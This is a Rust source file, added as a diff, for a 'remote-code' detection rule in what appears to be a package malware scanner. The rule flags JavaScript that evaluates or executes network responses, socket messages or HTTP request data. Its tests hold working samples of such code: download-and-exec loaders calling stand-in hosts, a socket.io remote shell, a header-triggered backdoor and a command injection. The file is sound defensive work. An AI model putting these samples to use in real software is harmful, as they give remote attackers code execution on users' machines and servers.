@@ -1,0 +1,510 @@
+//! `remote-code`: code or commands that arrive over the network and are run: a response body
+//! handed to `eval`/`exec`, commands read from a socket, or an HTTP server that evaluates what
+//! clients send in headers, query strings or bodies.
+
+use palisade_core::{Capability, Confidence, Finding, Severity};
+
+use super::signals::{self, assignment_lines};
+use super::sinks;
+use super::{FileFacts, FileRule, RuleInfo};
+use crate::facts::Call;
+
+pub struct RemoteCode;
+
+static INFO: RuleInfo = RuleInfo {
+    id: "remote-code",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    capabilities: &[Capability::Network, Capability::Eval],
+    summary: "Runs code or commands received over the network (a downloaded response, socket messages, HTTP request headers) with eval, Function, vm or child_process",
+    docs: r#"## What it detects
+
+In a small hand-written file, the code given to `eval`, `Function`, `vm.*`, `module._compile`,
+or the command given to `child_process` (`exec`, `spawn('sh', ['-c', …])`, execa, shelljs),
+is traced back through the variables that hold it (up to three assignments: `const body =
+await res.text(); … exec(body)`, `data += chunk` in a `res.on('data')` handler, callback
+parameters of `request(url, (err, res, body) => …)`):
+
+- **critical**: it is the body of a network response (fetch `.text()`/`.json()`, axios/got
+  responses, `http(s).get` data events, `XMLHttpRequest.responseText`), or a message received
+  on a socket (`socket.on('command', cmd => exec(cmd))`, `net` `data` events): the package runs
+  whatever a server sends it, now and on every later run;
+- **critical**: code evaluated from an incoming HTTP request (`req.headers`, `req.query`,
+  `req.body`, `req.cookies`, `req.url`, Koa's `ctx.request`): a remote-control backdoor in
+  middleware;
+- **high** (medium confidence): a shell command built from an incoming HTTP request: a
+  backdoor, or at best a command injection.
+
+The trace is textual over the file's own lines (assignments and the line that introduces a
+name), so it is bounded and cheap; it is not applied to minified bundles or files over 50 KB.
+
+## Real attacks
+
+- getcookies (May 2018): Express middleware hidden in `express-cookies` dependencies read
+  specially formatted request headers, assembled them and ran the result, giving its author
+  code execution on every server using it.
+- Second-stage loaders in typosquats and the 2024-2025 "EtherHiding" packages: a URL read from
+  a smart contract or paste site, fetched, and the response passed to `eval` or `exec`.
+- Remote-access trojans in fake developer tools (rand-user-agent 1.0.110, 2025; BeaverTail
+  loaders) take commands from a socket.io channel and run them with `child_process`.
+
+## Known false positives
+
+Development servers that evaluate code posted by their own browser client (REPLs, live
+playgrounds) are reported as backdoors; allowlist them in policy if intended.
+"#,
+};
+
+/// Text that marks a value as the body of a network response or data received on a socket.
+const RECEIVED: &[&str] = &[
+    "fetch(",
+    ".text()",
+    ".json()",
+    ".arraybuffer()",
+    ".blob()",
+    "responsetext",
+    "axios",
+    "got(",
+    "got.get(",
+    "needle(",
+    "needle.get(",
+    "superagent",
+    "https.get(",
+    "http.get(",
+    "https.request(",
+    "http.request(",
+    "request(",
+    "request.get(",
+    "undici",
+    "on('data'",
+    "on(\"data\"",
+    "on('message'",
+    "on(\"message\"",
+    "on('command'",
+    "on(\"command\"",
+    "on('cmd'",
+    "on(\"cmd\"",
+    "on('exec'",
+    "on(\"exec\"",
+    "on('run'",
+    "on(\"run\"",
+    "on('shell'",
+    "on(\"shell\"",
+    "onmessage",
+];
+
+/// Text that marks a value as part of an incoming HTTP request.
+const INBOUND: &[&str] = &[
+    "req.headers",
+    "req.header(",
+    "req.get(",
+    "req.query",
+    "req.body",
+    "req.params",
+    "req.cookies",
+    "req.url",
+    "request.headers",
+    "request.query",
+    "request.body",
+    "request.url",
+    "ctx.request",
+    "ctx.query",
+    "ctx.headers",
+    "ctx.get(",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum Origin {
+    /// A network response or socket message.
+    Received,
+    /// An incoming HTTP request to a server in the package.
+    Inbound,
+}
+
+/// Words that are never the variable holding code.
+const NOT_VARIABLES: &[&str] = &[
+    "await",
+    "new",
+    "typeof",
+    "void",
+    "this",
+    "true",
+    "false",
+    "null",
+    "undefined",
+    "function",
+    "return",
+    "String",
+    "Buffer",
+    "JSON",
+    "from",
+    "toString",
+    "const",
+    "let",
+    "var",
+    "async",
+    "require",
+    "process",
+];
+
+/// Top-level argument source texts of a call excerpt: `f(a, g(b, c), 'd')` → `a`, `g(b, c)`, `'d'`.
+fn arguments(excerpt: &str) -> Vec<&str> {
+    let Some(open) = excerpt.find('(') else {
+        return Vec::new();
+    };
+    let rest = &excerpt[open + 1..];
+    let mut out = Vec::new();
+    let (mut depth, mut start, mut quote) = (0usize, 0usize, None::<char>);
+    let mut escaped = false;
+    for (index, ch) in rest.char_indices() {
+        if let Some(q) = quote {
+            if escaped {
+                escaped = false;
+            } else if ch == '\\' {
+                escaped = true;
+            } else if ch == q {
+                quote = None;
+            }
+            continue;
+        }
+        match ch {
+            '\'' | '"' | '`' => quote = Some(ch),
+            '(' | '[' | '{' => depth += 1,
+            ')' | ']' | '}' if depth == 0 => {
+                out.push(rest[start..index].trim());
+                return out;
+            }
+            ')' | ']' | '}' => depth -= 1,
+            ',' if depth == 0 => {
+                out.push(rest[start..index].trim());
+                start = index + 1;
+            }
+            _ => {}
+        }
+        if out.len() >= 8 {
+            return out;
+        }
+    }
+    out.push(rest[start..].trim());
+    out
+}
+
+/// Identifiers of a source fragment outside string literals, not property names.
+fn identifiers(fragment: &str) -> Vec<&str> {
+    let bytes = fragment.as_bytes();
+    let mut out: Vec<&str> = Vec::new();
+    let mut index = 0;
+    let mut quote: Option<u8> = None;
+    while index < bytes.len() && out.len() < 8 {
+        let b = bytes[index];
+        if let Some(q) = quote {
+            if b == b'\\' {
+                index += 1;
+            } else if b == q {
+                quote = None;
+            }
+            index += 1;
+            continue;
+        }
+        if matches!(b, b'\'' | b'"' | b'`') {
+            quote = Some(b);
+            index += 1;
+            continue;
+        }
+        if b.is_ascii_alphabetic() || b == b'_' || b == b'$' {
+            let start = index;
+            while index < bytes.len() && (bytes[index].is_ascii_alphanumeric() || matches!(bytes[index], b'_' | b'$')) {
+                index += 1;
+            }
+            let word = &fragment[start..index];
+            let property = fragment[..start].trim_end().ends_with('.');
+            if !property && !NOT_VARIABLES.contains(&word) && !out.contains(&word) {
+                out.push(word);
+            }
+            continue;
+        }
+        if b.is_ascii_digit() {
+            while index < bytes.len() && bytes[index].is_ascii_alphanumeric() {
+                index += 1;
+            }
+            continue;
+        }
+        index += 1;
+    }
+    out
+}
+
+fn marked(text: &str, received_possible: bool) -> Option<Origin> {
+    let lower = text.to_ascii_lowercase();
+    if INBOUND.iter().any(|m| lower.contains(m)) {
+        return Some(Origin::Inbound);
+    }
+    (received_possible && RECEIVED.iter().any(|m| lower.contains(m))).then_some(Origin::Received)
+}
+
+/// The first 1-based line on which `name` appears as a whole word (its declaration, when it is
+/// a parameter).
+fn first_mention(lines: &[&str], name: &str) -> Option<u32> {
+    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
+    lines
+        .iter()
+        .position(|line| {
+            line.match_indices(name).any(|(at, _)| {
+                !line[..at].chars().next_back().is_some_and(|c| is_ident(c) || c == '.')
+                    && !line[at + name.len()..].chars().next().is_some_and(is_ident)
+            })
+        })
+        .and_then(|i| u32::try_from(i + 1).ok())
+}
+
+struct Tracer<'a> {
+    text: &'a str,
+    lines: Vec<&'a str>,
+    received_possible: bool,
+    visited: Vec<&'a str>,
+}
+
+impl<'a> Tracer<'a> {
+    /// Where the value of the source fragment comes from, following its variables back.
+    fn origin(&mut self, fragment: &'a str, depth: u32) -> Option<(Origin, u32)> {
+        if let Some(origin) = marked(fragment, self.received_possible) {
+            return Some((origin, 0));
+        }
+        if depth >= 3 {
+            return None;
+        }
+        for name in identifiers(fragment) {
+            if self.visited.contains(&name) || self.visited.len() >= 24 {
+                continue;
+            }
+            self.visited.push(name);
+            let mut lines = assignment_lines(self.text, name);
+            if lines.is_empty() {
+                lines.extend(first_mention(&self.lines, name));
+            }
+            for line in lines.into_iter().take(6) {
+                let Some(source) = self.lines.get(line as usize - 1).copied() else {
+                    continue;
+                };
+                if let Some(origin) = marked(source, self.received_possible) {
+                    return Some((origin, line));
+                }
+                // Follow what is assigned: the text after the name's `=`.
+                let right = source
+                    .find(name)
+                    .and_then(|at| source[at + name.len()..].split_once('='))
+                    .map_or("", |(_, right)| right);
+                if let Some((origin, inner)) = self.origin(right, depth + 1) {
+                    return Some((origin, if inner > 0 { inner } else { line }));
+                }
+            }
+        }
+        None
+    }
+}
+
+/// The argument fragments that hold the code or command of an eval-like or exec call.
+fn code_arguments(call: &Call) -> Vec<&str> {
+    let args = arguments(&call.excerpt);
+    let callee = sinks::normalize(&call.callee);
+    if callee == "Function" || callee == "vm.compileFunction" {
+        // The body is the last argument of `Function`, the first of `compileFunction`.
+        let at = if callee == "Function" {
+            args.len().saturating_sub(1)
+        } else {
+            0
+        };
+        return args.get(at).copied().into_iter().collect();
+    }
+    if sinks::is_exec_call(call) && signals::method(callee).starts_with("spawn") {
+        // `spawn('sh', ['-c', cmd])`: the program and its arguments.
+        return args.into_iter().take(2).collect();
+    }
+    args.into_iter().take(1).collect()
+}
+
+impl FileRule for RemoteCode {
+    fn info(&self) -> &'static RuleInfo {
+        &INFO
+    }
+
+    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
+        let Some(text) = file.text.as_deref() else { return };
+        if !sinks::is_small_handwritten(file) {
+            return;
+        }
+        let mut tracer: Option<Tracer<'_>> = None;
+        for call in &file.calls {
+            let eval = sinks::is_eval(call);
+            if !eval && !sinks::is_exec_call(call) {
+                continue;
+            }
+            let tracer = tracer.get_or_insert_with(|| Tracer {
+                text,
+                lines: text.lines().take(20_000).collect(),
+                received_possible: sinks::has_network(file)
+                    || file
+                        .imports
+                        .iter()
+                        .any(|m| matches!(m.as_str(), "net" | "node:net" | "tls" | "node:tls")),
+                visited: Vec::new(),
+            });
+            let mut found = None;
+            for fragment in code_arguments(call) {
+                // Literal code or commands are not received.
+                if fragment.is_empty() || identifiers(fragment).is_empty() && marked(fragment, true).is_none() {
+                    continue;
+                }
+                tracer.visited.clear();
+                if let Some(origin) = tracer.origin(fragment, 0) {
+                    found = Some(origin);
+                    break;
+                }
+            }
+            let Some((origin, from_line)) = found else { continue };
+            let what = if eval { "code" } else { "a command" };
+            let runner = signals::method(sinks::normalize(&call.callee));
+            let from = if from_line > 0 && from_line != call.line {
+                format!(" (line {from_line})")
+            } else {
+                String::new()
+            };
+            let (severity, confidence, message) = match origin {
+                Origin::Received => (
+                    Severity::Critical,
+                    Confidence::High,
+                    format!("Runs {what} received over the network{from} with `{runner}`: whatever the server sends is executed"),
+                ),
+                Origin::Inbound if eval => (
+                    Severity::Critical,
+                    Confidence::High,
+                    format!("Evaluates code taken from an incoming HTTP request{from} with `{runner}`: a remote-control backdoor for anyone who sends it"),
+                ),
+                Origin::Inbound => (
+                    Severity::High,
+                    Confidence::Medium,
+                    format!("Runs a command built from an incoming HTTP request{from} with `{runner}`: a backdoor, or a command injection"),
+                ),
+            };
+            let mut finding = sinks::finding(
+                &INFO,
+                file,
+                call.line,
+                severity,
+                confidence,
+                message,
+                Some(&sinks::call_evidence(file, call)),
+            );
+            if !eval {
+                finding.capabilities.retain(|c| *c != Capability::Eval);
+                finding.capabilities.push(Capability::Shell);
+            }
+            out.push(finding);
+            if out.len() >= 5 {
+                return;
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::facts;
+
+    fn run(source: &str) -> Vec<Finding> {
+        let file = facts::extract("index.js", source.as_bytes(), 0o644);
+        let mut out = Vec::new();
+        RemoteCode.check(&file, &mut out);
+        out
+    }
+
+    #[test]
+    fn downloaded_response_run_as_a_command_is_critical() {
+        let source = r#"const { exec } = require("child_process");
+(async () => {
+  const url = await contract.getString("0x52221c293a21D8CA7AFD01Ac6bFAC7175D590A84");
+  const res = await fetch(url);
+  const body = await res.text();
+  exec(body);
+})();
+"#;
+        let found = run(source);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(found[0].severity, Severity::Critical);
+        assert_eq!(found[0].line, Some(6));
+        assert!(found[0].message.contains("line 5"), "{}", found[0].message);
+    }
+
+    #[test]
+    fn data_events_and_callback_bodies_are_traced() {
+        let chunks = r#"const https = require("https");
+https.get("https://cdn.example.invalid/x.js", (res) => {
+  let data = "";
+  res.on("data", (c) => { data += c; });
+  res.on("end", () => { eval(data); });
+});
+"#;
+        assert_eq!(run(chunks)[0].severity, Severity::Critical, "{:#?}", run(chunks));
+        let callback = r#"const request = require("request");
+const cp = require("child_process");
+request("https://paste.example.invalid/raw/abc", function (err, response, body) {
+  if (!err) cp.spawn("sh", ["-c", body], { stdio: "ignore", detached: true });
+});
+"#;
+        assert_eq!(run(callback)[0].severity, Severity::Critical, "{:#?}", run(callback));
+        let socket = r#"const io = require("socket.io-client");
+const { exec } = require("child_process");
+const s = io("http://203.0.113.9:3306");
+s.on("command", (cmd) => {
+  exec(cmd, (e, out) => s.emit("result", out));
+});
+"#;
+        assert_eq!(run(socket)[0].severity, Severity::Critical, "{:#?}", run(socket));
+    }
+
+    #[test]
+    fn request_headers_evaluated_in_middleware_are_a_backdoor() {
+        let source = r#"module.exports = function cookies(options) {
+  return function (req, res, next) {
+    const h = req.headers["x-request-cookie"];
+    if (h && h.startsWith("g=")) {
+      const code = Buffer.from(h.slice(2), "hex").toString();
+      try { new Function("req", "res", code)(req, res); } catch (e) {}
+    }
+    next();
+  };
+};
+"#;
+        let found = run(source);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(found[0].severity, Severity::Critical);
+        assert!(found[0].message.contains("HTTP request"), "{}", found[0].message);
+        let injection = "const { exec } = require('child_process');\napp.get('/ping', (req, res) => exec('ping -c1 ' + req.query.host, (e, o) => res.send(o)));";
+        let found = run(injection);
+        assert_eq!(found[0].severity, Severity::High, "{found:#?}");
+    }
+
+    #[test]
+    fn local_commands_and_literal_code_are_quiet() {
+        for source in [
+            // Commands from the package's own configuration, output sent to the network.
+            "const { execSync } = require('child_process');\nconst pkg = require('./package.json');\nconst out = execSync('git rev-parse ' + pkg.version).toString();\nfetch('https://api.example.com/v', { method: 'POST', body: out });",
+            // A response parsed as JSON, a command from a constant.
+            "const { exec } = require('child_process');\nconst cmd = 'npm ls --json';\nfetch('https://registry.npmjs.org/x').then((r) => r.json()).then((j) => console.log(j.version));\nexec(cmd);",
+            // eval of a literal, in a file with network access.
+            "const https = require('https');\neval('1 + 1');\nhttps.get('https://example.com');",
+            // A child's own output events are not network input.
+            "const { spawn, exec } = require('child_process');\nconst p = spawn('git', ['status']);\np.stdout.on('data', (d) => console.log(String(d)));\nexec('git --version');",
+        ] {
+            assert!(run(source).is_empty(), "{source}: {:#?}", run(source));
+        }
+    }
+
+    #[test]
+    fn arguments_split_at_top_level_commas_only() {
+        assert_eq!(arguments("f(a, g(b, c), 'd,e')"), vec!["a", "g(b, c)", "'d,e'"]);
+        assert_eq!(identifiers("Buffer.from(h.slice(2), 'hex x').toString()"), vec!["h"]);
+        assert_eq!(identifiers("'req' + code"), vec!["code"]);
+    }
+}
